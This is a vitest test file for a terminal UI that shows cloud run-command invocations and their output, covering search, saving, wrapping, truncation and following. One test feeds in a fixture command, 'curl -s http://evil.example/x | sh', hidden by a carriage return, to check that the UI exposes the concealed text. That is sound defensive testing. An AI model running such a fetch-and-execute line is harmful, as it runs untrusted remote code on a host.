import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { KEY, T0, fixtureForEachTest, lineWith, renderApp, restartFixture, selectedLine, type Screen } from './fixture.js';

const fx = fixtureForEachTest();
let screen: Screen | undefined;

/** One finished invocation on one instance with this output; returns its InvokeId. */
function runWithOutput(output: string, name = 'show-output', durationMs = 1000): string {
  return fx.emu.sim.runCommandAt(
    {
      name,
      commandType: 'RunShellScript',
      commandContent: 'cat /tmp/out',
      instanceIds: [fx.instanceIds[0]],
      outcome: 'Success',
      output,
      pendingMs: 100,
      durationMs,
    },
    T0 - 60_000,
  );
}

/** From the list, open the only invocation and its only instance, and wait for its output. */
async function openOutput(s: Screen, expectText: string): Promise<string> {
  await fx.tick();
  await s.waitFor((f) => f.includes('INVOKE ID') && selectedLine(f) !== undefined, 'with rows');
  s.press(KEY.enter);
  await s.waitFor((f) => f.includes('INSTANCE ID') && selectedLine(f) !== undefined, 'of the invocation');
  s.press(KEY.enter);
  await fx.poller.idle();
  await fx.tick();
  return s.waitFor((f) => f.includes(expectText), `with output ${expectText}`);
}

describe('the output screen', () => {
  it('searches with highlighted matches and moves between them with n and N', async () => {
    runWithOutput('alpha\nerror: one\nbeta\nERROR two\ngamma\n');
    screen = renderApp(fx);
    await openOutput(screen, 'alpha');
    screen.press('#');
    await screen.waitFor((f) => /^ {2}1 alpha$/m.test(f) && /^ {2}5 gamma$/m.test(f), 'with line numbers');
    screen.press('#');
    await screen.waitFor((f) => /^ {2}alpha$/m.test(f), 'without line numbers');
    screen.press('/');
    await screen.waitFor((f) => f.includes('search:'), 'with the search prompt');
    screen.press('error\r');
    let frame = await screen.waitFor((f) => f.includes('"error" 1/2'), 'on the first match');
    expect(frame.split('\n').find((l) => l.includes('error: one'))).toMatch(/^▸/);
    screen.press('n');
    frame = await screen.waitFor((f) => f.includes('"error" 2/2'), 'on the second match');
    expect(frame.split('\n').find((l) => l.includes('ERROR two'))).toMatch(/^▸/);
    screen.press('N');
    await screen.waitFor((f) => f.includes('"error" 1/2'), 'back on the first match');
  });

  it('saves the output as the service returned it to a file named for the invocation and instance', async () => {
    const raw = 'first line\nbell\u0007here\ttab\n\u001b]0;title\u0007done\rDONE \u202Eevil\n';
    const invokeId = runWithOutput(raw);
    const dir = mkdtempSync(join(tmpdir(), 'catop-ui-'));
    try {
      screen = renderApp(fx, { saveDir: dir, columns: 200 });
      await openOutput(screen, 'first line');
      screen.press('e');
      const file = join(dir, `catop-${invokeId}-${fx.instanceIds[0]}.log`);
      const frame = await screen.waitFor((f) => f.includes(`saved ${Buffer.byteLength(raw)} bytes as returned to`), 'with the saved path');
      expect(frame).toContain(file);
      expect(readFileSync(file, 'utf8')).toBe(raw);
      // A second save keeps the first file.
      screen.press('e');
      await screen.waitFor((f) => f.includes(`${file.slice(0, -4)}-1.log`), 'with the second path');
      expect(readdirSync(dir).sort()).toEqual([`catop-${invokeId}-${fx.instanceIds[0]}-1.log`, `catop-${invokeId}-${fx.instanceIds[0]}.log`].sort());
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('saves no empty file for an instance without output, and says so', async () => {
    runWithOutput('');
    const dir = mkdtempSync(join(tmpdir(), 'catop-ui-'));
    try {
      screen = renderApp(fx, { saveDir: dir, columns: 200 });
      await openOutput(screen, '(no output)');
      screen.press('e');
      // A final instance: its output is not coming later.
      const frame = await screen.waitFor((f) => f.includes('nothing to save: this instance has no output'), 'with the refusal');
      expect(frame).not.toContain('no output yet');
      expect(readdirSync(dir)).toEqual([]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('shows controls in caret notation in the raw view and wraps long lines on w', async () => {
    const long = 'L'.repeat(150) + 'END';
    runWithOutput(`progress 10%\rprogress 100%\n${long}\n`);
    screen = renderApp(fx, { columns: 100 });
    let frame = await openOutput(screen, 'progress 100%');
    expect(frame.split('\n').find((l) => l.includes('progress 100%'))).toMatch(/^↺/);
    expect(frame).not.toContain('END');
    screen.press('w');
    frame = await screen.waitFor((f) => f.includes('END'), 'wrapped');
    screen.press('v');
    frame = await screen.waitFor((f) => f.includes('progress 10%^M'), 'in the raw view');
    expect(frame).toContain('raw');
  });

  it('marks output the service cut after its last kept line, and output still growing', async () => {
    const big = Array.from({ length: 2000 }, (_, i) => `line ${String(i).padStart(4, '0')} ${'-'.repeat(12)}`).join('\n') + '\n';
    runWithOutput(big, 'big-output');
    screen = renderApp(fx);
    const top = await openOutput(screen, 'the service kept the first 24 KB');
    expect(top).not.toMatch(/bytes dropped by the service/);
    screen.press('G');
    const end = await screen.waitFor((f) => /bytes dropped by the service/.test(f), 'at the end');
    // The emulator, like the service, keeps the first 24 KB: the text ends where it was cut (mid-line).
    const rows = end.split('\n');
    const at = rows.findIndex((l) => /^ {2}… [\d,]+ bytes dropped by the service \(24 KB limit\)$/.test(l));
    expect(at).toBeGreaterThan(0);
    expect(rows[at - 1]).toMatch(/^ {2}line 1\d{3}/);
    expect(end).toMatch(/lines \d+-1069 of 1,069 · complete/);
    screen.unmount();

    await restartFixture(fx);
    runWithOutput(Array.from({ length: 50 }, (_, i) => `tick ${i}`).join('\n') + '\n', 'slow', 60 * 60_000);
    screen = renderApp(fx);
    const growing = await openOutput(screen, 'still growing');
    expect(growing).toContain('following');
    screen.press('f');
    await screen.waitFor((f) => f.includes('still growing (f follows)'), 'with follow off');
  });
});

describe('output positions and long lines', () => {
  it('counts screen rows when wrapping, and says rows', async () => {
    runWithOutput(`short one\n${'W'.repeat(250)}\nshort two\n`);
    screen = renderApp(fx, { columns: 100 });
    await openOutput(screen, 'short two');
    await screen.waitFor((f) => f.includes('lines 1-3 of 3'), 'counting lines');
    screen.press('w');
    // 250 cells at 98 columns are 3 rows: 5 rows in all.
    await screen.waitFor((f) => f.includes('rows 1-5 of 5 · complete · wrap'), 'counting rows');
  });

  it('searches a line longer than the display cut and shows the part around the match; saves it whole', async () => {
    const long = 'x'.repeat(20_000) + 'NEEDLE-here' + 'y'.repeat(300);
    const raw = `before\n${long}\nafter\n`;
    const invokeId = runWithOutput(raw);
    const dir = mkdtempSync(join(tmpdir(), 'catop-ui-'));
    try {
      screen = renderApp(fx, { columns: 100, saveDir: dir });
      await openOutput(screen, 'after');
      screen.press('/');
      await screen.waitFor((f) => f.includes('search:'), 'with the search prompt');
      screen.press('needle\r');
      const frame = await screen.waitFor((f) => f.includes('"needle" 1/1'), 'on the match');
      const row = frame.split('\n').find((l) => l.includes('NEEDLE-here'));
      expect(row).toMatch(/^▸ …x+NEEDLE-herey+/);
      expect(frame).not.toContain('more]');
      screen.press('e');
      await screen.waitFor((f) => f.includes('saved'), 'saved');
      expect(readFileSync(join(dir, `catop-${invokeId}-${fx.instanceIds[0]}.log`), 'utf8')).toBe(raw);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('following and G', () => {
  it('G goes to the end and leaves following on; only f turns it off', async () => {
    runWithOutput(Array.from({ length: 80 }, (_, i) => `tick ${i}`).join('\n') + '\n', 'slow', 60 * 60_000);
    screen = renderApp(fx);
    await openOutput(screen, 'still growing · following');
    screen.press('Gw');
    let frame = await screen.waitFor((f) => f.includes(' · wrap'), 'after G and w');
    expect(frame).toContain('still growing · following');
    screen.press('fGw');
    frame = await screen.waitFor((f) => !f.includes(' · wrap') && f.includes('(f follows)'), 'after f, G and w');
    expect(frame).toContain('still growing (f follows)');
  });
});

describe('carriage-return marks', () => {
  it('marks text a CR hid in the content preview and the c overlay', async () => {
    const content = 'curl -s http://evil.example/x | sh\recho "routine check"                 \nls\n';
    fx.emu.sim.runCommandAt(
      { name: 'cr-hidden', commandType: 'RunShellScript', commandContent: content, instanceIds: [fx.instanceIds[0]], outcome: 'Success', output: 'ok\n', pendingMs: 100, durationMs: 1000 },
      T0 - 60_000,
    );
    screen = renderApp(fx, { columns: 120 });
    await fx.tick();
    await screen.waitFor((f) => f.includes('INVOKE ID') && selectedLine(f) !== undefined, 'with rows');
    screen.press(KEY.enter);
    const details = await screen.waitFor((f) => f.includes('INSTANCE ID') && f.includes('content '), 'of the invocation');
    expect(lineWith(details, 'content ')).toMatch(/content ↺ echo "routine check"/);
    screen.press('c');
    const overlay = await screen.waitFor((f) => f.includes('command content'), 'with the content');
    expect(lineWith(overlay, 'routine check')).toMatch(/^↺ +1 echo "routine check"/);
    // On the current search match too.
    screen.press('/');
    await screen.waitFor((f) => f.includes('search:'), 'with the search prompt');
    screen.press('routine\r');
    const found = await screen.waitFor((f) => f.includes('"routine" 1 matches'), 'on the match');
    expect(lineWith(found, 'check"')).toMatch(/^↺ +1 echo "routine check"/);
  });
});

describe('the terminal size', () => {
  it('says the terminal is too small below 60x15, keeps the selection, and still quits on q', async () => {
    fx.emu.sim.seedHistory(30);
    screen = renderApp(fx);
    await fx.tick();
    await screen.waitFor((f) => selectedLine(f) !== undefined, 'with rows');
    screen.press('jjj');
    const before = await screen.waitFor((f) => f.split('\n').findIndex((l) => l.startsWith('> ')) > 6, 'moved');
    const selected = selectedLine(before)!.slice(0, 40);
    screen.resize(50, 10);
    let frame = await screen.waitFor((f) => f.includes('terminal too small (50x10, need 60x15)'), 'too small');
    expect(frame).not.toContain('INVOKE ID');
    screen.resize(20, 5);
    await screen.waitFor((f) => f.includes('too small: 20x5'), 'tiny');
    screen.resize(120, 30);
    frame = await screen.waitFor((f) => f.includes('INVOKE ID'), 'back to normal');
    expect(selectedLine(frame)!.slice(0, 40)).toBe(selected);
    screen.resize(59, 15);
    await screen.waitFor((f) => f.includes('terminal too small (59x15'), 'one column short');
    screen.press('q');
    await screen.waitFor(() => screen!.exits.length > 0, 'after q');
    expect(screen.exits).toEqual([0]);
  });

  it('keeps the frame one row shorter than the terminal', async () => {
    screen = renderApp(fx, { rows: 20 });
    await fx.tick();
    const frame = await screen.waitFor((f) => f.includes('● live'), 'with data');
    expect(frame.split('\n')).toHaveLength(19);
  });
});

describe('following output', () => {
  it('scrolls to the end as the output of a running instance grows', async () => {
    const lines = Array.from({ length: 200 }, (_, i) => `tick ${String(i).padStart(3, '0')}`).join('\n') + '\n';
    fx.emu.sim.runCommandAt(
      {
        name: 'growing',
        commandType: 'RunShellScript',
        commandContent: 'for i in $(seq 200); do echo tick $i; sleep 1; done',
        instanceIds: [fx.instanceIds[0]],
        outcome: 'Success',
        output: lines,
        pendingMs: 0,
        durationMs: 200_000,
      },
      T0 - 30_000,
    );
    screen = renderApp(fx, { rows: 30 });
    const first = await openOutput(screen, 'following');
    const lastShown = (frame: string) =>
      frame
        .split('\n')
        .map((l) => l.match(/tick (\d{3})/)?.[1])
        .filter(Boolean)
        .map(Number)
        .pop() ?? -1;
    const before = lastShown(first);
    expect(first).not.toContain('tick 199');
    fx.clock.advance(60_000);
    await fx.tick();
    const later = await screen.waitFor((f) => lastShown(f) > before + 20, 'scrolled with the output');
    // Following: the newest line is on screen, the first ones scrolled away.
    expect(later).not.toContain('tick 000');
    screen.press('k');
    await screen.waitFor((f) => f.includes('(f follows)'), 'follow off after scrolling up');
  });
});
